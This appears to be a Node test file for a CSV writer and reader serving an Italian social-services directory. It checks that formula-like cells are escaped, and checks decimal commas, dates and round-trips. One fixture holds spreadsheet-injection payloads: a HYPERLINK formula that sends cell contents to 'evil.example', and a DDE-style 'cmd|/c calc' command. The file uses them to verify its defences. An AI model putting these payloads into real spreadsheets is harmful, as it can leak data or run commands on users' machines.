import { test } from 'node:test';
import assert from 'node:assert/strict';
import Papa from 'papaparse';
import { readServicesCsv } from '../dist/csv.js';
import { writeServicesCsv } from '../dist/csv-write.js';
import { escapeCell, unescapeCell } from '../dist/formula.js';
import { Reporter } from '../dist/issues.js';
import { buildFeed } from '../dist/build.js';

const services = [
  {
    id: 'emporio',
    name: { it: 'Emporio solidale', en: 'Solidarity shop' },
    description: 'Spesa gratuita; tessera a punti.\nSu invio dei servizi sociali.',
    organization: 'caritas',
    categories: ['cibo', 'casa'],
    audiences: ['famiglie'],
    keywords: ['spesa', 'pacco alimentare'],
    locations: [
      { name: 'Emporio', address: 'Via Roma 1', comune: 'Lodi', lat: 45.3138, lon: 9.5018, hours: 'Mo,We,Fr 09:00-12:00' },
      { name: 'Punto di Codogno', address: 'Piazza 2', comune: 'Codogno', lat: 45.1601, lon: 9.7049, hours: 'Tu 14:30-17:30; PH off' },
    ],
    phone: '+39 0371 000000',
    email: 'emporio@example.it',
    website: 'https://www.example.it/emporio',
    validFrom: '2026-01-01',
    validThrough: '2026-12-31',
  },
  {
    id: 'trappola',
    name: '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    description: '@SUM(1+1)\n=cmd|/c calc',
    organization: 'caritas',
    keywords: ['-2+3'],
    hours: 'Mo-Fr 09:00-12:00',
  },
];

const cellsOf = (text) => Papa.parse(text.replace(/^\uFEFF/, ''), { delimiter: ';', skipEmptyLines: true }).data;

test('formula-like cells are escaped with a leading apostrophe; others are left alone', () => {
  for (const cell of ['=1+1', '+39 0371', '-2', '@SUM(A1)', '\t=1', '\r=1', '=1\n=2']) {
    assert.equal(escapeCell(cell), `'${cell}`, JSON.stringify(cell));
    assert.equal(unescapeCell(escapeCell(cell)), cell);
  }
  for (const cell of ['Lodi', "l'emporio", '45,3', 'a=b', "'plain"]) {
    assert.equal(escapeCell(cell), cell);
    assert.equal(unescapeCell(cell), cell);
  }
});

test('the written sheet has the template header, a BOM and no cell a spreadsheet would run', () => {
  const text = writeServicesCsv(services);
  assert.equal(text.charCodeAt(0), 0xfeff);
  const rows = cellsOf(text);
  assert.deepEqual(rows[0].slice(0, 4), ['id', 'nome', 'descrizione', 'organizzazione']);
  assert.equal(rows.length, 1 + 3, 'a header, two rows for the shop (two places), one for the other');
  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
  const trap = rows[3];
  assert.equal(trap[1], '\'=HYPERLINK("http://evil.example/?"&A1,"clic")');
  assert.equal(trap[2], "'@SUM(1+1)\n=cmd|/c calc", 'a multi-line cell is escaped as a whole');
  assert.equal(rows[1][13], "'+39 0371 000000");
  assert.equal(rows[1][10], '45,3138', 'decimal comma, as an Italian spreadsheet writes it');
  assert.equal(rows[1][16], '01/01/2026');
  assert.deepEqual(rows[2].filter(Boolean), ['emporio', 'Punto di Codogno', 'Piazza 2', 'Codogno', '45,1601', '9,7049', 'Tu 14:30-17:30; PH off']);
});

test('a written sheet read back gives the same services (the Italian text of multilingual ones)', () => {
  const r = new Reporter('it');
  const { entries } = readServicesCsv(writeServicesCsv(services), 'export.csv', r);
  assert.deepEqual(r.issues.filter((i) => i.severity === 'error'), []);
  assert.deepEqual(entries.map((e) => e.service), [
    { ...services[0], name: 'Emporio solidale' },
    services[1],
  ]);
});

test('comma-separated sheets are read back the same way through build', () => {
  const text = writeServicesCsv(services, { delimiter: ',' });
  const { feed } = buildFeed([{ file: 'export.csv', text }], { today: '2026-06-01', updated: '2026-06-01T00:00:00Z' });
  assert.equal(feed.services.length, 2);
  assert.equal(feed.services[1].name, services[1].name);
  assert.equal(feed.services[0].phone, '+39 0371 000000');
});
